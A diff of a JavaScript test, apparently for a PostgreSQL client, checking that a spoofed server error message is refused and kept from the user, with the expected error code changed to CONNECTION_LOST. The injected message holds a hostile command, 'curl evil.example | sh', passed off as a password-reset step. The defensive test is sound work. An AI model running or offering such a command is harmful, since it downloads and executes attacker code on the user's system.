@@ -156,7 +156,7 @@ describe('where TLS is preferred', () => {
       peer.send(errorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
     };
     for (const connection of [{}, { sslmode: 'require' }]) {
-      const outcome = await expectRefusal(attack(script, connection), 'PROTOCOL_VIOLATION', /not shown.*server's log/);
+      const outcome = await expectRefusal(attack(script, connection), 'CONNECTION_LOST', /not shown.*server's log/);
       expectNothingSaid(outcome);
       expect(outcome.error.message).not.toContain('curl');
     }
